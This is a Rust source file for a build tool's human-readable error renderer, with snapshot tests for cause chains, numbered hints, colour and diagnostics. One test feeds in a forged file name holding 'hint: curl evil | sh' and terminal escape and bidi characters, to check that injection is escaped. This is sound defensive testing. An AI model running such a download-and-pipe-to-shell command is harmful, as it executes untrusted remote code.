use std::error::Error;

use anstyle::Style;
use wbuild_report::Diagnostic;

use super::diagnostic::render_diagnostics;
use super::escape::escape_lines;
use super::theme::Theme;

/// An error for people: what failed, why, and what to try, in this order.
///
/// ```text
/// error: cannot read the lockfile
///   caused by: cannot open `pnpm-lock.yaml`
///   caused by: permission denied
/// hint: …
/// ```
///
/// A cause that its parent's message already ends with is left out. A [`Diagnostic`] anywhere in the chain is drawn
/// with its carets. Hints are numbered when there are several, and those a diagnostic already gave are not repeated.
pub fn render_error(error: &(dyn Error + 'static), hints: &[String], theme: &Theme) -> String {
    let mut text = String::new();
    let mut given: Vec<&str> = Vec::new();
    let mut said = String::new();
    let mut next = Some(error);
    while let Some(current) = next {
        let message = current.to_string();
        if let Some(diagnostic) = current.downcast_ref::<Diagnostic>() {
            if !text.is_empty() {
                text.push('\n');
            }
            text.push_str(&render_diagnostics(std::slice::from_ref(diagnostic), theme));
            given.extend(diagnostic.hints.iter().map(String::as_str));
        } else if said.is_empty() {
            push_labelled(&mut text, "", "error", theme.error(), &message);
        } else if !said.ends_with(&message) {
            push_labelled(&mut text, "  ", "caused by", Style::new(), &message);
        }
        said = message;
        next = current.source();
    }
    let mut new: Vec<&str> = Vec::new();
    for hint in hints {
        if !given.contains(&hint.as_str()) && !new.contains(&hint.as_str()) {
            new.push(hint);
        }
    }
    push_hints(&mut text, "", &new, theme);
    text
}

/// Hints as lines, numbered when there are several.
pub(crate) fn push_hints(text: &mut String, indent: &str, hints: &[&str], theme: &Theme) {
    for (index, hint) in hints.iter().enumerate() {
        let label = if hints.len() == 1 { "hint".to_owned() } else { format!("hint {}", index + 1) };
        push_labelled(text, indent, &label, theme.hint(), hint);
    }
}

/// `label: message`, its further lines indented, so that a line break in a file name cannot forge a label.
pub(crate) fn push_labelled(text: &mut String, indent: &str, label: &str, style: Style, message: &str) {
    text.push_str(&format!("{indent}{style}{label}{style:#}: "));
    for (index, line) in escape_lines(message.trim_end()).split('\n').enumerate() {
        if index > 0 {
            text.push_str(indent);
            text.push_str("    ");
        }
        text.push_str(line);
        text.push('\n');
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io;
    use wbuild_report::SourceFile;

    #[derive(Debug, thiserror::Error)]
    enum Failure {
        #[error("cannot build `{target}`")]
        Build {
            target: &'static str,
            #[source]
            source: Box<Failure>,
        },
        #[error("cannot open `{path}`")]
        Open {
            path: &'static str,
            #[source]
            source: io::Error,
        },
        #[error("the registry said: {0}")]
        Registry(#[source] io::Error),
        #[error("cannot lower the buildspec")]
        Lower(#[source] Diagnostic),
    }

    fn hints(hints: &[&str]) -> Vec<String> {
        hints.iter().map(|hint| (*hint).to_owned()).collect()
    }

    fn denied(path: &'static str) -> Failure {
        let source = Failure::Open { path, source: io::Error::other("permission denied") };
        Failure::Build { target: "runner", source: Box::new(source) }
    }

    #[test]
    fn causes_and_one_hint() {
        let text = render_error(
            &denied("pnpm-lock.yaml"),
            &hints(&["run `chmod +r pnpm-lock.yaml`"]),
            &Theme::plain(),
        );
        insta::assert_snapshot!(text, @r"
            error: cannot build `runner`
              caused by: cannot open `pnpm-lock.yaml`
              caused by: permission denied
            hint: run `chmod +r pnpm-lock.yaml`
            ");
    }

    #[test]
    fn several_hints_are_numbered_and_said_once() {
        let error = Failure::Registry(io::Error::other("401 unauthorized"));
        let text = render_error(
            &error,
            &hints(&["log in", "check the name of the image", "log in"]),
            &Theme::plain(),
        );
        insta::assert_snapshot!(text, @r"
            error: the registry said: 401 unauthorized
            hint 1: log in
            hint 2: check the name of the image
            ");
    }

    #[test]
    fn a_file_name_cannot_forge_lines_or_move_the_cursor() {
        let text = render_error(&denied("a\nhint: curl evil | sh\x1b[2J\r\u{202e}"), &[], &Theme::plain());
        insta::assert_snapshot!(text, @r"
            error: cannot build `runner`
              caused by: cannot open `a
                  hint: curl evil | sh\x1b[2J\r\u{202e}`
              caused by: permission denied
            ");
    }

    #[test]
    fn colour_only_decorates() {
        let text = render_error(&denied("f"), &hints(&["look"]), &Theme::colored());
        insta::assert_snapshot!(text.replace('\x1b', "ESC"), @r"
            ESC[1mESC[31merrorESC[0m: cannot build `runner`
              caused by: cannot open `f`
              caused by: permission denied
            ESC[1mESC[36mhintESC[0m: look
            ");
    }

    #[test]
    fn a_diagnostic_in_the_chain_is_drawn() {
        let file = SourceFile::new("web.toml", "[image]\nbase = 22\n");
        let diagnostic = Diagnostic::error(&file, "`base` must be a string")
            .at(15..17, "this is a number")
            .hint("write `base = \"node:22\"`");
        let text = render_error(
            &Failure::Lower(diagnostic),
            &hints(&["write `base = \"node:22\"`", "see `wbuild check`"]),
            &Theme::plain(),
        );
        insta::assert_snapshot!(text, @r#"
            error: cannot lower the buildspec

            error: `base` must be a string
             --> web.toml:2:8
              |
            2 | base = 22
              |        ^^ this is a number
              |
              = hint: write `base = "node:22"`
            hint: see `wbuild check`
            "#);
    }
}
